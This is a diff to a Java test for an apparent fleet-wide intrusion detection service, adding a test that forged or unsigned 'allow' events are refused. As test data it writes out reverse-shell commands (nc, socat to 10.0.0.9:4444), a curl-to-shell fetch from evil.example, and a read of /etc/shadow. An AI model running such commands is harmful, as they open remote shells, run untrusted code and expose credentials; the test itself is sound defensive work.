@@ -88,8 +88,8 @@ public class FleetServiceTest extends dev.vigil.alert.BrokerTest {
             assertThat(f.profile(W).normal(2)).as("alerted on h2: an attack spreading over replicas must not whitelist itself").doesNotContainKey("network");
             assertThat(f.profile(W).novel().get("network").get("connect tcp public:443")).containsExactly("h2");
             produce("events.t1", List.of(event("h3", "network", "connect tcp public:443", "learnt")));
-            FleetService.allow(s, W, "risky", "ptrace ATTACH"); // vigil fleet allow
-            assertThatThrownBy(() -> FleetService.allow(s, W, "colour", "red")).isInstanceOf(IllegalArgumentException.class).hasMessageContaining("unknown dimension");
+            FleetService.allow(s, signer, W, "risky", "ptrace ATTACH"); // vigil fleet allow, signed with the fleet's key
+            assertThatThrownBy(() -> FleetService.allow(s, signer, W, "colour", "red")).isInstanceOf(IllegalArgumentException.class).hasMessageContaining("unknown dimension");
             drain(f, first.size() + 3);
             assertThat(f.counts()).containsEntry("events", 9L).as("resumed from the committed offsets: only the new events").containsEntry("invalid", 0L);
             // learnt on two hosts, but each in a warm-up after a restart (a crash, then the attacker's moment): never normal fleet-wide by that
@@ -112,6 +112,32 @@ public class FleetServiceTest extends dev.vigil.alert.BrokerTest {
         Signer other = Signer.generate(dir.resolve("other"));
         assertThatThrownBy(() -> FleetDocument.read(FleetDocument.write(after.profile(), 2, other), verifier)).isInstanceOf(FleetDocument.InvalidException.class);
         assertThat(FleetDocument.read(doc, verifier).normal()).isEqualTo(after.normal());
+    }
+
+    /**
+     * Anyone who can write the events topic (any agent's credentials) forges allows: unsigned, signed by a key the fleet
+     * does not trust, or a signed allow with its item changed. None counts; an operator's key the service trusts does.
+     */
+    @Test
+    void anAllowCountsOnlyWhenSignedByAnOperatorKey(@TempDir Path dir) throws Exception {
+        Signer signer = Signer.generate(dir);
+        Signer operator = Signer.generate(dir, "operator"), stranger = Signer.generate(dir.resolve("stranger"), "operator");
+        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t9", "events.t9", "profiles.t9", 2, Map.of());
+        Signer trusted = Signer.verifier(dir.resolve("operator.pub"));
+        try (FleetService f = new FleetService(s, signer, List.of(trusted), QUIET)) {
+            produce("events.t9", List.of(event("operator", "process", "/usr/sbin/nginx -> /usr/bin/nc -e /bin/sh 10.0.0.9 4444", "allowed")));
+            FleetService.allow(s, stranger, W, "process", "/usr/sbin/nginx -> /usr/bin/curl evil.example | sh");
+            FleetService.allow(s, signer, W, "process", "/usr/sbin/nginx -> /usr/bin/socat exec:sh tcp:10.0.0.9:4444"); // the fleet's key is not an operator's here
+            FleetService.allow(s, operator, W, "files", "read /srv/www/robots.txt");
+            drain(f, 4);
+            ObjectNode changed = (ObjectNode) new ObjectMapper().readTree(read("events.t9", 4).getLast().value());
+            changed.put("item", "read /etc/shadow"); // the operator's signature kept, the item changed
+            produce("events.t9", List.of(changed.toString()));
+            drain(f, 5);
+            assertThat(f.counts()).containsEntry("events", 5L).containsEntry("refused_allows", 4L).containsEntry("invalid", 0L);
+            assertThat(f.profile(W).allowed()).isEqualTo(Map.of("files", Set.of("read /srv/www/robots.txt")));
+        }
+        assertThat(latest("profiles.t9", Signer.verifier(dir.resolve(Signer.PUBLIC))).normal()).isEqualTo(Map.of("files", Set.of("read /srv/www/robots.txt")));
     }
 
     public static String stateEvent(String host, String dimension, String state) {
